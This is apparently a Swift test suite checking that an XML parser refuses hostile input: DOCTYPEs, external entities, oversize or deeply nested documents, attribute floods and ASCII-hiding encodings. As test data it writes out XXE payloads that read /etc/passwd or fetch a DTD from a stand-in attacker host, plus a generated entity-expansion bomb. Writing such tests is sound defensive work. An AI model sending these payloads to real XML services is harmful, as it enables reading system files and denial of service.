import Testing
import XMLText

@Suite struct HostileXMLTests {
    private func refusal(_ text: String, by parser: XMLParser = XMLParser()) -> XMLParserError? {
        do {
            _ = try parser.parse(Array(text.utf8))
            return nil
        } catch {
            return error
        }
    }

    @Test(arguments: [
        "<!DOCTYPE a><a/>",
        "<!DOCTYPE a SYSTEM 'http://attacker.example/a.dtd'><a/>",
        "<!DOCTYPE a PUBLIC 'a' 'file:///etc/passwd'><a/>",
        "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>",
        "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
        "<!DOCTYPE a [<!ENTITY % b SYSTEM 'http://attacker.example/b'> %b;]><a/>",
        "<!DOCTYPE a [<!ATTLIST a b CDATA 'c'>]><a/>",
    ])
    func doctypeIsRefused(_ text: String) {
        #expect(refusal("<!-- first -->\n" + text)?.kind == .doctype)
        #expect(refusal("<!-- first -->\n" + text)?.line == 2)
    }

    @Test func doctypeInUTF16IsRefused() {
        let bytes = "\u{FEFF}<!DOCTYPE a><a/>".utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }
        let error = #expect(throws: XMLParserError.self) { try XMLParser().parse(bytes) }
        #expect(error?.kind == .doctype)
    }

    @Test(.timeLimit(.minutes(1))) func bombOfEntitiesIsRefused() {
        let entities = (1...30).map { "<!ENTITY l\($0) \"\(String(repeating: "&l\($0 - 1);", count: 10))\">" }
        let text = "<!DOCTYPE a [<!ENTITY l0 \"lol\">\(entities.joined())]><a b=\"&l30;\">&l30;</a>"
        #expect(refusal(text)?.kind == .doctype)
    }

    @Test(arguments: ["<a>&b;</a>", "<a b='&b;'/>", "<a>&nbsp;</a>"])
    func undeclaredEntityIsRefused(_ text: String) {
        #expect(refusal(text)?.kind == .malformed)
    }

    @Test func depthIsLimited() throws {
        func nested(_ depth: Int) -> String {
            String(repeating: "<a>", count: depth) + String(repeating: "</a>", count: depth)
        }
        #expect(refusal(nested(100)) == nil)
        #expect(refusal(nested(101))?.kind == .tooDeep)
        #expect(refusal(nested(3), by: XMLParser(maximumDepth: 3)) == nil)
        let error = try #require(refusal("<a>\n<a>\n<a/></a></a>", by: XMLParser(maximumDepth: 2)))
        #expect(error.kind == .tooDeep)
        #expect(error.line == 3)
        #expect(error.message == "elements nest deeper than the 2 levels that are allowed")
    }

    @Test func depthBeyondThatOfTheLibraryIsRefusedAllTheSame() {
        let text = String(repeating: "<a>", count: 100_000)
        #expect(refusal(text, by: XMLParser(maximumDepth: .max)) != nil)
    }

    @Test func sizeIsLimited() throws {
        let text = "<a>" + String(repeating: "x", count: 1_048_576 - 7) + "</a>"
        #expect(refusal(text) == nil)
        #expect(refusal(text + "\n")?.kind == .tooLarge)
        #expect(refusal("<a/>", by: XMLParser(maximumSize: 4)) == nil)
        let error = try #require(refusal("<a />", by: XMLParser(maximumSize: 4)))
        #expect(error.kind == .tooLarge)
        #expect(error.message == "the document has 5 bytes, more than the 4 that are allowed")
    }

    @Test(arguments: [
        "", " ", "a", "<a>", "</a>", "<a/><b/>", "<a></b>", "<a b/>", "<a b=c/>", "<a b='1' b='2'/>", "<a>\u{0}</a>",
        "<a>\u{B}</a>", "<a>&#0;</a>", "<a>&#xFFFE;</a>", "<a>]]></a>", "<a><![CDATA[</a>", "<a><!-- -- --></a>",
        "<?xml version='9'?><a/>", " <?xml version='1.0'?><a/>", "<a/>text", "<a b='<'/>", "<1/>",
    ])
    func whatIsNotWellFormedIsRefused(_ text: String) {
        #expect(refusal(text)?.kind == .malformed)
    }

    @Test func errorTellsItsPlaceAndItsCause() throws {
        let error = try #require(refusal("<a>\n  <b>\n  </c>\n</a>"))
        #expect(error.line == 3)
        #expect(error.column > 3)
        #expect(error.message == "opening and ending tag mismatch: b line 2 and c")
    }

    @Test func everyBeginningOfADocumentIsRefusedWithoutHarm() {
        let text = "<?xml version='1.0'?>\n<p:a xmlns:p='urn:p' b='&amp;é'>é&lt;<![CDATA[x]]><!--y--><p:c/></p:a>"
        for length in text.utf8.indices {
            #expect(throws: XMLParserError.self) { try XMLParser().parse(Array(text.utf8[..<length])) }
        }
    }

    @Test func manyThreadsReadAndWriteAtOnce() async {
        await withTaskGroup(of: Bool.self) { group in
            for number in 0..<200 {
                group.addTask {
                    let element = XMLElement("a", attributes: [.init("b", "\(number)")], text: "&\(number)")
                    let document = XMLWriter().write(element)
                    return (try? XMLParser().parse(Array(document.utf8))) == element
                        && (try? XMLParser().parse(Array(document.utf8).dropLast(3))) == nil
                }
            }
            for await isSame in group { #expect(isSame) }
        }
    }

    // A megabyte of each is refused or read before a test would end.

    @Test(.timeLimit(.minutes(1)), arguments: [("a", ""), ("xmlns:a", "u")])
    func attributesAreCountedBeforeTheyAreCompared(_ name: String, _ value: String) {
        let attributes = (0..<70_000).map { "\(name)\($0)=\"\(value)\"" }.joined(separator: " ")
        let text = "<a \(attributes)/>"
        #expect(refusal(text, by: XMLParser(maximumSize: 2_000_000))?.kind == .tooManyAttributes)
        let wide = "\u{FEFF}\(text)".utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }
        let error = #expect(throws: XMLParserError.self) { try XMLParser(maximumSize: 4_000_000).parse(wide) }
        #expect(error?.kind == .tooManyAttributes)
    }

    @Test func aThousandAttributesAreRead() throws {
        func tag(_ count: Int) -> String {
            "<a \((0..<count).map { "a\($0)='='" }.joined(separator: " "))>====</a>"
        }
        #expect(refusal(tag(1_000)) == nil)
        #expect(refusal(tag(1_001))?.kind == .tooManyAttributes)
        #expect(refusal("<a>\(String(repeating: "=", count: 5_000))</a>") == nil)
        #expect(refusal("<a b='\(String(repeating: ">=", count: 5_000))'/>") == nil)
    }

    @Test(arguments: ["IBM037", "EBCDIC-CP-US", "UTF-7", "UTF-EBCDIC", "CP500"])
    func encodingsThatHideASCIIAreRefused(_ encoding: String) {
        let kind = refusal("<?xml version=\"1.0\" encoding=\"\(encoding)\"?><a/>")?.kind
        #expect(kind == .encoding || kind == .malformed)
    }

    @Test func ebcdicIsRefused() {
        // `<?xml version="1.0"?>` in code page 037.
        let bytes: [UInt8] = [
            0x4C, 0x6F, 0xA7, 0x94, 0x93, 0x40, 0xA5, 0x85, 0x99, 0xA2, 0x89, 0x96, 0x95, 0x7E, 0x7F, 0xF1, 0x4B, 0xF0,
            0x7F, 0x6F, 0x6E, 0x4C, 0x81, 0x61, 0x6E,
        ]
        let error = #expect(throws: XMLParserError.self) { try XMLParser().parse(bytes) }
        #expect(error?.kind == .encoding)
    }

    @Test(arguments: ["UTF-8", "utf-8", "ISO-8859-1", "US-ASCII", "windows-1252"])
    func ordinaryEncodingsAreRead(_ encoding: String) throws {
        #expect(refusal("<?xml version=\"1.0\" encoding=\"\(encoding)\"?><a/>") == nil)
    }
}
